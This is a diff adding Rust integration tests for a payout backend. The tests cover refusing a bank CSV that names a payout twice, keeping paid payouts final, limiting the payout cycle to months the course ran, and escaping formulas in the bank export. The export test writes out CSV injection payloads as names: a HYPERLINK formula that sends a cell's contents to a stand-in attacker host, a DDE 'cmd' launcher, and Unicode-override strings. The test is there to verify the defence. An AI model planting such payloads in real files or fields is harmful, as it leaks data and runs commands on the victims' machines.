@@ -494,4 +494,105 @@ backend_tests! {
         let hers: Value = app.get_as("/api/v1/me/payouts", &mothers[0]).await.json().await.unwrap();
         assert_eq!(hers[0]["period"], "2026-11");
     }
+
+    async fn a_file_naming_a_payout_twice_is_refused_whole_and_paid_is_final(backend: Backend) {
+        let app = spawn_app(backend).await;
+        let (admin, _, _, period) = attendance_month(&app, 2, true).await;
+        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
+        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
+        let id = batch["id"].as_str().unwrap().to_owned();
+        let file = app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap();
+        let lines: Vec<Vec<&str>> = file.lines().skip(1).map(|l| l.split(',').collect()).collect();
+        let (p0, p1, tenge) = (lines[0][1].to_owned(), lines[1][1].to_owned(), lines[0][5].to_owned());
+        // Paid, then failed, for one payout: the whole file is refused, naming the second line.
+        let twice = format!("payout_id,status,amount_kzt,reference,reason\n{p0},paid,{tenge},HB-1,\n{p1},paid,{tenge},HB-2,\n{p0},failed,{tenge},,closed\n");
+        let res = csv(&app, &admin, &id, &twice).await;
+        assert_eq!(res.status(), 422);
+        let problem: Value = res.json().await.unwrap();
+        assert!(problem["errors"]["line 3"].as_str().unwrap().contains('1'), "{problem}");
+        // Nothing of it was applied and nobody was told anything.
+        let unchanged = ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await;
+        assert_eq!(unchanged["by_status"]["sent"]["count"], 2, "{unchanged}");
+        for who in ["mother1@example.kz", "mother2@example.kz"] {
+            assert!(app.emails_to(who).await.iter().all(|e| e.0 != "payout_update"), "{who}");
+        }
+        // The clean file settles it; a paid payout is final even for SQL that skips the service.
+        ok(csv(&app, &admin, &id, &format!("{p0},paid,{tenge},HB-1,\n{p1},paid,{tenge},HB-2,\n")).await).await;
+        for to in ["scheduled", "approved", "sent", "failed", "cancelled"] {
+            let (p, to2) = (p0.clone(), to.to_owned());
+            let moved = app.store.run(move |c| {
+                use diesel::prelude::*;
+                use social_jobs::db::schema::payouts;
+                diesel::update(payouts::table.find(p)).set(payouts::status.eq(to2)).execute(c).map_err(social_jobs::db::DbError::from)
+            }).await;
+            assert!(moved.is_err(), "paid -> {to} was allowed");
+        }
+        let hers: Value = ok(app.get_as(&format!("/api/v1/payouts?period={period}&status=paid"), &admin).await).await;
+        assert_eq!(hers["items"].as_array().unwrap().len(), 2);
+        // And no later batch takes it to the bank again.
+        assert_eq!(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await.status(), 409);
+    }
+
+    async fn the_cycle_pays_only_months_the_course_ran(backend: Backend) {
+        let app = spawn_app(backend).await;
+        let (admin, _, _, period) = attendance_month(&app, 1, true).await;
+        // Sessions stored before sessions had to lie within their course: one in 1990, one the
+        // month before the course. They do not stretch the months paid.
+        let course = the_course(&app).await;
+        app.store.run(move |c| {
+            let at = |d: &str, h: u32| chrono::NaiveDate::parse_from_str(d, "%Y-%m-%d").unwrap().and_hms_opt(h, 0, 0).unwrap();
+            let before = (common::clock().today().checked_sub_months(chrono::Months::new(2)).unwrap().with_day(12).unwrap()).to_string();
+            for d in ["1990-01-10", before.as_str()] {
+                social_jobs::openings::service::add_session(c, &course, at(d, 4), at(d, 7)).map_err(|_| diesel::result::Error::RollbackTransaction)?;
+            }
+            Ok::<_, social_jobs::db::DbError>(())
+        }).await.unwrap();
+        let run = social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
+        assert_eq!(run.created, 1, "{run:?}");
+        let all: Value = ok(app.get_as("/api/v1/payouts", &admin).await).await;
+        let periods: Vec<&str> = all["items"].as_array().unwrap().iter().map(|p| p["period"].as_str().unwrap()).collect();
+        assert_eq!(periods, [period.as_str()]);
+        let mails = app.emails_to("mother1@example.kz").await.into_iter().filter(|e| e.0 == "payout_scheduled").count();
+        assert_eq!(mails, 1);
+    }
+
+    async fn the_bank_file_holds_no_formula_whatever_the_names(backend: Backend) {
+        let app = spawn_app(backend).await;
+        let (admin, _, mothers, period) = attendance_month(&app, 3, true).await;
+        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Айгүл\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)"];
+        for (i, (t, name)) in mothers.iter().zip(names).enumerate() {
+            let mut p = common::api::profile(&common::api::iin(i as u32 + 1).0);
+            p["district"] = json!("zhetysu");
+            p["full_name"] = json!(name);
+            ok(app.client.put(app.url("/api/v1/me/profile")).bearer_auth(t).json(&p).send().await.unwrap()).await;
+        }
+        // Names with a tab, a right-to-left override, a zero-width space or a NUL are refused.
+        for bad in ["Айгүл\tСейітқызы", "Ай\u{202E}гүл", "Ай\u{200B}гүл", "Ай\u{0}гүл"] {
+            let mut p = common::api::profile(&common::api::iin(1).0);
+            p["district"] = json!("zhetysu");
+            p["full_name"] = json!(bad);
+            let res = app.client.put(app.url("/api/v1/me/profile")).bearer_auth(&mothers[0]).json(&p).send().await.unwrap();
+            assert_eq!(res.status(), 422, "{bad:?}");
+            let body: Value = res.json().await.unwrap();
+            assert!(body.to_string().contains("full_name"), "{body}");
+        }
+        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
+        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
+        let file = app.get_as(&format!("/api/v1/payout-batches/{}/export", batch["id"].as_str().unwrap()), &admin).await.text().await.unwrap();
+        let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
+        let mut seen = Vec::new();
+        for record in reader.records() {
+            let record = record.unwrap();
+            for cell in record.iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+            }
+            seen.push(record[3].to_owned());
+            // The amount stays a number.
+            assert!(record[5].parse::<f64>().is_ok(), "{record:?}");
+        }
+        seen.sort();
+        let mut want: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+        want.sort();
+        assert_eq!(seen, want);
+    }
 }
